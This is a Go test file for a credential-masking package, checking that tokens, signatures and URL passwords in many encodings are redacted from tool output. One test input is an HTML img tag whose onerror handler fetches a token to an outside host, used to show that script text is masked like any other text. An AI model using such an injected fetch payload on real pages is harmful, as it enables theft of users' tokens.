package links

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// spelling is one way text carries a credential: it writes name=value (or a
// userinfo holding value) into surrounding text.
type spelling struct {
	name string
	put  func(name, value string) string
}

// paramSpellings are the ways a listed parameter reaches a tool result's
// text: every one the URL rule or the scrub reads.
var paramSpellings = []spelling{
	{"query", func(n, v string) string { return "see https://h.example/p?a=1&" + n + "=" + v + "&b=2 now" }},
	{"query first", func(n, v string) string { return "see https://h.example/p?" + n + "=" + v + " now" }},
	{"fragment token", func(n, v string) string { return "redirect https://h.example/cb#" + n + "=" + v + "&state=s1 done" }},
	{"fragment route", func(n, v string) string { return "reset: https://h.example/#/reset?" + n + "=" + v }},
	{"path parameter", func(n, v string) string { return "GET https://h.example/app;" + n + "=" + v + "?x=1 200" }},
	{"semicolon in query", func(n, v string) string { return "https://h.example/p?a=1;" + n + "=" + v }},
	{"markdown", func(n, v string) string { return "the [report](https://h.example/r.csv?" + n + "=" + v + ")." }},
	{"angled", func(n, v string) string { return "<https://h.example/r?" + n + "=" + v + ">" }},
	{"www host", func(n, v string) string { return "log in at www.h.example/login?" + n + "=" + v + " now" }},
	{"JSON-escaped", func(n, v string) string {
		return `{"url":"https:\/\/h.example\/p?a=1\u0026` + n + "=" + v + `\u0026b=2","n":1}`
	}},
	{"doubly JSON-escaped", func(n, v string) string {
		return `"https:\\/\\/h.example\\/p?a=1\\u0026` + n + "=" + v + `\\u0026b=2"`
	}},
	{"percent-encoded URL", func(n, v string) string {
		return "u=https%3A%2F%2Fh.example%2Fp%3Fa%3D1%26" + n + "%3D" + v + "%26b%3D2 end"
	}},
	{"nested percent-encoded", func(n, v string) string {
		return "https://login.example/?next=https%3A%2F%2Fo.example%2Fcb%3F" + n + "%3D" + v + "&x=1"
	}},
	{"shell escaped", func(n, v string) string { return `curl https://h.example/v1?a=1\&` + n + "=" + v + " -o out" }},
	{"bare pair", func(n, v string) string { return "export " + n + "=" + v + "\n" }},
	{"equals as %3D", func(n, v string) string { return "log " + n + "%3D" + v + " end" }},
	{`equals as \u003d`, func(n, v string) string { return `{"q":"` + n + `\u003d` + v + `\u0026x=1"}` }},
	{`equals as \\u003d`, func(n, v string) string { return `"` + n + `\\u003d` + v + `\\u0026x=1"` }},
}

// userinfoSpellings carry the value as a URL's password (or user).
var userinfoSpellings = []spelling{
	{"user and password", func(_, v string) string { return "git clone https://bob:" + v + "@git.example/r.git" }},
	{"user only", func(_, v string) string { return "https://" + v + "@git.example/r.git" }},
	{"JSON-escaped", func(_, v string) string { return `{"remote":"https:\/\/bob:` + v + `@git.example\/r.git"}` }},
	{"ftp", func(_, v string) string { return "ftp://anon:" + v + "@files.example/pub/" }},
	{"nested", func(_, v string) string { return "https://a.example/r?next=https://bob:" + v + "@b.example/" }},
	{"nested percent-encoded", func(_, v string) string {
		return "https://a.example/r?next=https%3A%2F%2Fbob%3A" + v + "%40b.example%2F"
	}},
}

// checkMasked asserts what every masked text must hold: the value gone,
// the spans pointing at placeholders, the real ranges holding the real
// text, and masking idempotent.
func checkMasked(t *testing.T, text, value string) (string, []MaskSpan) {
	t.Helper()
	masked, spans := Mask(text)
	if strings.Contains(masked, value) {
		t.Fatalf("Mask(%q) = %q keeps the value", text, masked)
	}
	if len(spans) == 0 {
		t.Fatalf("Mask(%q) found nothing", text)
	}
	checkSpans(t, text, masked, spans)
	if again, more := Mask(masked); again != masked || len(more) != 0 {
		t.Fatalf("Mask is not idempotent: %q -> %q (%d spans)", masked, again, len(more))
	}
	return masked, spans
}

// checkSpans rebuilds the real text from the masked one and its spans.
func checkSpans(t *testing.T, text, masked string, spans []MaskSpan) {
	t.Helper()
	var b strings.Builder
	last, lastAt := 0, 0
	for i, s := range spans {
		if s.Start < last || s.End <= s.Start || s.End > len(text) {
			t.Fatalf("span %d %+v out of order or range (text %d bytes)", i, s, len(text))
		}
		if masked[s.At:s.At+len(Masked)] != Masked {
			t.Fatalf("span %d At %d is not a placeholder in %q", i, s.At, masked)
		}
		if s.At-lastAt != s.Start-last {
			t.Fatalf("span %d: %d bytes kept before it in the real text but %d in the masked", i, s.Start-last, s.At-lastAt)
		}
		b.WriteString(text[last:s.Start])
		b.WriteString(Masked)
		last, lastAt = s.End, s.At+len(Masked)
	}
	b.WriteString(text[last:])
	if b.String() != masked {
		t.Fatalf("spans rebuild %q, Mask gave %q", b.String(), masked)
	}
}

// Every name on the list, in every spelling of every family: the value is
// masked and the name kept.
func TestMaskEveryFamilyEverySpelling(t *testing.T) {
	for _, fam := range Families() {
		for _, name := range fam.Params {
			for form := uint8(0); form < 6; form++ {
				spelled := spell(name, form)
				for _, sp := range paramSpellings {
					if form == 4 && strings.Contains(sp.name, "percent") {
						continue // brackets are not written inside a percent-encoded URL
					}
					t.Run(fam.Name+"/"+spelled+"/"+sp.name, func(t *testing.T) {
						value := fmt.Sprintf("Vq%dZ%sx9", form, strings.ToLower(NormalizeName(name)))
						text := sp.put(spelled, value)
						masked, spans := checkMasked(t, text, value)
						if !strings.Contains(masked, spelled) {
							t.Errorf("Mask(%q) = %q drops the name %q", text, masked, spelled)
						}
						for _, s := range spans {
							if s.Kind == MaskParameter && NormalizeName(s.Parameter) != NormalizeName(name) && !isListed(s.Parameter) {
								t.Errorf("span %+v names an unlisted parameter", s)
							}
						}
					})
				}
			}
		}
	}
	for _, sp := range userinfoSpellings {
		t.Run("userinfo/"+sp.name, func(t *testing.T) {
			masked, spans := checkMasked(t, sp.put("", "Pw7secretQ"), "Pw7secretQ")
			if spans[0].Kind != MaskUserinfo {
				t.Errorf("first span %+v is not userinfo", spans[0])
			}
			if strings.Contains(masked, "bob") {
				t.Errorf("%q keeps the user name", masked)
			}
		})
	}
}

func isListed(name string) bool { _, ok := credentialName(name); return ok }

func TestMask(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"presigned S3", "https://b.s3.amazonaws.com/k.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAEXAMPLE%2F20250101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=abc123",
			"https://b.s3.amazonaws.com/k.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=[redacted]&X-Amz-Signature=[redacted]"},
		{"userinfo", "clone https://bob:hunter2@git.example/r.git now", "clone https://[redacted]@git.example/r.git now"},
		{"fragment token", "https://app.example/cb#access_token=ya29.abc&token_type=Bearer", "https://app.example/cb#access_token=[redacted]&token_type=Bearer"},
		{"sentence punctuation stays", "See https://x.example/?token=abc.", "See https://x.example/?token=[redacted]."},
		{"closing paren stays", "(https://x.example/?sig=abc)", "(https://x.example/?sig=[redacted])"},
		{"value that runs on in the & reading", "https://x.example/?sig=abc;v=1", "https://x.example/?sig=[redacted]"},
		{"ordinary links kept", "Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ, https://docs.google.com/d/1?usp=sharing, https://example.com/list?page=2&utm_source=news and https://docs.example.com/auth#token.",
			"Watch https://www.youtube.com/watch?v=dQw4w9WgXcQ, https://docs.google.com/d/1?usp=sharing, https://example.com/list?page=2&utm_source=news and https://docs.example.com/auth#token."},
		{"unlisted names kept", "monkey=1 sortkey=abc tokenizer=bpe state=xyz", "monkey=1 sortkey=abc tokenizer=bpe state=xyz"},
		{"empty value kept", "https://x.example/?token=&a=1 token= next", "https://x.example/?token=&a=1 token= next"},
		{"unparseable keeps its text", "https://api.example.com/u/%s?x=1", "https://api.example.com/u/%s?x=1"},
		{"script text is only text", `<img src=x onerror="fetch('https://e.example/?token=abc')">`, `<img src=x onerror="fetch('https://e.example/?token=[redacted]')">`},
		{"nothing", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, spans := Mask(tc.in)
			if got != tc.want {
				t.Fatalf("Mask(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
			checkSpans(t, tc.in, got, spans)
			if tc.in == tc.want && spans != nil {
				t.Errorf("nothing masked but spans %+v", spans)
			}
		})
	}
}

// A credential cut by a retention cut or a page edge is masked on both
// sides of the cut, as the whole text masks it.
func TestMaskRangeAgreesWithWholeText(t *testing.T) {
	text := "head words\nfetch https://b.s3.amazonaws.com/k?X-Amz-Signature=abcdef0123456789&x=1 and bob's https://bob:pw123456@h.example/ then export TOKEN=t0k3nv4lu3 end\n"
	whole, _ := Mask(text)
	for start := 0; start <= len(text); start++ {
		for _, n := range []int{0, 1, 7, 40, len(text)} {
			end := min(start+n, len(text))
			got, spans := MaskRange(text, start, end)
			want, wantSpans := apply(text, start, end, textSecrets(text))
			if got != want || len(spans) != len(wantSpans) {
				t.Fatalf("MaskRange(%d,%d) = %q, whole-text masking gives %q", start, end, got, want)
			}
			for _, v := range []string{"abcdef0123456789", "pw123456", "t0k3nv4lu3"} {
				for cut := 4; cut < len(v); cut++ { // no piece of a value survives
					if piece := v[:cut]; strings.Contains(got, piece) && !strings.Contains(whole, piece) {
						t.Fatalf("MaskRange(%d,%d) = %q keeps %q", start, end, got, piece)
					}
					if piece := v[len(v)-cut:]; strings.Contains(got, piece) && !strings.Contains(whole, piece) {
						t.Fatalf("MaskRange(%d,%d) = %q keeps %q", start, end, got, piece)
					}
				}
			}
		}
	}
}

// A Masker scans once; every range then masks and counts as MaskRange does.
func TestMaskerAgreesWithMaskRange(t *testing.T) {
	texts := map[string]string{
		"none":   "plain words, no link at all\n",
		"mixed":  "head words\nfetch https://b.s3.amazonaws.com/k?X-Amz-Signature=abcdef0123456789&x=1 and bob's https://bob:pw123456@h.example/ then export TOKEN=t0k3nv4lu3 end\n",
		"packed": strings.Repeat("a=1&token=zzzzzzzz9&sig=yyyyyyyy8 ", 6),
	}
	for name, text := range texts {
		t.Run(name, func(t *testing.T) {
			f := NewMasker(text)
			for start := 0; start <= len(text); start++ {
				for _, n := range []int{0, 1, 7, 40, len(text)} {
					end := min(start+n, len(text))
					want, wantSpans := MaskRange(text, start, end)
					got, spans := f.Range(start, end)
					if got != want || !slices.Equal(spans, wantSpans) {
						t.Fatalf("Range(%d,%d) = %q %+v, MaskRange %q %+v", start, end, got, spans, want, wantSpans)
					}
					if c := f.Count(start, end); c != len(wantSpans) {
						t.Fatalf("Count(%d,%d) = %d, MaskRange shows %d", start, end, c, len(wantSpans))
					}
				}
			}
		})
	}
}

func TestMaskWindowOpenEdges(t *testing.T) {
	// A window read from the middle of a run: its start may be inside a
	// value whose name lies before the window, so that run is masked whole.
	w := Window{Text: "Zq9valuecontinues more text", Start: 0, End: 22, Before: true}
	got, spans := MaskWindow(w)
	if got != Masked+" more" || len(spans) != 1 || spans[0].Kind != MaskUnread {
		t.Fatalf("open start: %q %+v", got, spans)
	}
	w = Window{Text: "more text https://bob:pw12", Start: 0, End: 26, After: true}
	got, _ = MaskWindow(w)
	if strings.Contains(got, "pw12") || !strings.HasPrefix(got, "more text ") {
		t.Fatalf("open end: %q", got)
	}
	// Read to hard stops on both sides, a window masks as the whole text.
	text := "a https://x.example/?token=abc b"
	w = Window{Text: text, Start: 5, End: 28, Before: true, After: true}
	got, _ = MaskWindow(w)
	if want, _ := MaskRange(text, 5, 28); got != want {
		t.Fatalf("window to hard stops: %q, whole text: %q", got, want)
	}
}

func TestMaskedOffset(t *testing.T) {
	text := "a https://x.example/?token=abcdef b https://u:pw@h/ c"
	masked, spans := Mask(text)
	if len(spans) != 2 {
		t.Fatalf("spans %+v", spans)
	}
	for _, word := range []string{"a ", " b ", " c", "https://x", "@h/"} {
		real := strings.Index(text, word)
		at := MaskedOffset(spans, real)
		if !strings.HasPrefix(masked[at:], word) {
			t.Errorf("offset of %q: real %d maps to %d, masked reads %q", word, real, at, masked[at:])
		}
	}
	inside := strings.Index(text, "cdef")
	if at := MaskedOffset(spans, inside); at != spans[0].At {
		t.Errorf("inside a value maps to %d, want the placeholder at %d", at, spans[0].At)
	}
	if at := MaskedOffset(nil, 7); at != 7 {
		t.Errorf("no spans: %d", at)
	}
}

func TestRedactURI(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"https://bob:pw@h.example/p;jsessionid=1?X-Amz-Signature=abc&v=2#access_token=t",
			"https://[redacted]@h.example/p;jsessionid=…?X-Amz-Signature=…&v=…#access_token=…"},
		{"https://b.s3.amazonaws.com/k.png?X-Amz-Algorithm=AWS4&X-Amz-Credential=AKIA%2F2025&X-Amz-Signature=ff",
			"https://b.s3.amazonaws.com/k.png?X-Amz-Algorithm=…&X-Amz-Credential=…&X-Amz-Signature=…"},
		{"https://app.example/#/reset?token=abc", "https://app.example/#/reset?token=…"},
		{"https://docs.example.com/auth#token", "https://docs.example.com/auth#token"},
		{"https://example.com/search?q=&page=2", "https://example.com/search?q=&page=…"},
		{"https://example.com/%zz?x=1", "https://example.com/%zz?x=…"},
		{"file:///tmp/report.csv", "file:///tmp/report.csv"},
		{"https://x.example/?next=https%3A%2F%2Fu%3Ap%40h", "https://x.example/?next=…"},
		{"https://h.example/a\nb?x=1", "https://h.example/ab?x=…"},
	} {
		t.Run(tc.in, func(t *testing.T) {
			if got := RedactURI(tc.in); got != tc.want {
				t.Errorf("RedactURI(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
	long := "https://h.example/" + strings.Repeat("a", 1000)
	if n := len([]rune(RedactURI(long))); n != MaxURIRunes {
		t.Errorf("long URI redacts to %d runes, want %d", n, MaxURIRunes)
	}
}

func TestFoundURI(t *testing.T) {
	text := `{"u":"https:\/\/h.example\/p?a=1\u0026sig=abc"}`
	f := ScanText(text)
	if len(f) != 1 {
		t.Fatalf("found %+v", f)
	}
	if got := RedactURI(FoundURI(text, f[0])); got != "https://h.example/p?a=…&sig=…" {
		t.Errorf("redacted found URI %q", got)
	}
}

func FuzzMask(f *testing.F) {
	f.Add("see", "end.", uint8(0), uint8(0), uint8(0), uint64(1), 3, 9)
	f.Add(`{"a":"`, `"}`, uint8(5), uint8(3), uint8(9), uint64(2), 0, 40)
	f.Add("token=", "&x", uint8(11), uint8(7), uint8(14), uint64(3), 10, 2)
	f.Add("https://a.example/?q=", "www.", uint8(2), uint8(2), uint8(20), uint64(5), 7, 70)
	names := listedNames()
	spellings := append(append([]spelling{}, paramSpellings...), userinfoSpellings...)
	f.Fuzz(func(t *testing.T, prefix, suffix string, pick, form, how uint8, seed uint64, cutAt, cutLen int) {
		// Any text: no panic, well-formed spans, idempotent, and every URL
		// the scanner says carries a credential has something masked in it.
		raw := prefix + suffix
		masked, spans := Mask(raw)
		checkSpans(t, raw, masked, spans)
		if again, more := Mask(masked); again != masked || len(more) != 0 {
			t.Fatalf("not idempotent: %q -> %q", masked, again)
		}
		for _, fd := range ScanText(raw) {
			if fd.Reason != ReasonUserinfo && fd.Reason != ReasonCredentialParameter {
				continue
			}
			hit := false
			for _, s := range spans {
				if s.Start < fd.End && s.End > fd.Start {
					hit = true
				}
			}
			if !hit {
				t.Fatalf("ScanText flags %q (%s %s) but Mask masks nothing in it", raw[fd.Start:fd.End], fd.Reason, fd.Parameter)
			}
		}
		// A planted credential, in any spelling, in any surroundings: its
		// value never survives, whole or cut by a range.
		value := distinctive("V", seed)
		if strings.Contains(raw, value[:8]) {
			t.Skip()
		}
		sp := spellings[int(how)%len(spellings)]
		if pre := prefix; pre != "" && !isHardStop(pre[len(pre)-1]) {
			prefix += " " // the planted text starts a run of its own
		}
		if suffix != "" && !isHardStop(suffix[0]) {
			suffix = " " + suffix
		}
		text := prefix + sp.put(spell(names[int(pick)%len(names)], form%4), value) + suffix
		out, _ := Mask(text)
		if strings.Contains(out, value) {
			t.Fatalf("Mask(%q) = %q keeps the value", text, out)
		}
		start := min(max(cutAt, 0), len(text))
		end := min(start+max(cutLen, 0), len(text))
		part, _ := MaskRange(text, start, end)
		want, _ := apply(text, start, end, textSecrets(text))
		if part != want {
			t.Fatalf("MaskRange(%d,%d) = %q, whole-text masking gives %q", start, end, part, want)
		}
	})
}

// BenchmarkMask masks the tool-output corpus (prose, code, JSON lines with
// escaped URLs, shell output, markdown; a URL every few hundred bytes).
func BenchmarkMask(b *testing.B) {
	text := benchText()
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	n := 0
	for b.Loop() {
		_, spans := Mask(text)
		n = len(spans)
	}
	if n == 0 {
		b.Fatal("nothing masked")
	}
}

// BenchmarkMaskPage masks one 64 KiB page of the corpus in its context, as
// the file pane does for each page it shows.
func BenchmarkMaskPage(b *testing.B) {
	text := benchText()
	start := len(text) / 2
	b.SetBytes(64 << 10)
	b.ReportAllocs()
	for b.Loop() {
		MaskRange(text, start, start+64<<10)
	}
}

// BenchmarkMaskPathological masks inputs built to make a careless masker
// quadratic: runs of separators, escapes, equals signs and nested URLs.
func BenchmarkMaskPathological(b *testing.B) {
	for _, in := range []struct{ name, text string }{
		{"equals", strings.Repeat("token=", 100000)},
		{"encoded equals", strings.Repeat("token%3D", 100000)},
		{"params", "https://a/?" + strings.Repeat("sig=1&", 100000)},
		{"escapes", "https://a/?" + strings.Repeat(`\u0026token=x`, 50000)},
		{"nested userinfo", "https://a/?" + strings.Repeat("x=https://u:p@h&", 50000)},
		{"percent", "https://a/?" + strings.Repeat("%2526token%253Dx", 50000)},
		{"long run", strings.Repeat("a", 600000)},
	} {
		b.Run(in.name, func(b *testing.B) {
			b.SetBytes(int64(len(in.text)))
			b.ReportAllocs()
			for b.Loop() {
				Mask(in.text)
			}
		})
	}
}
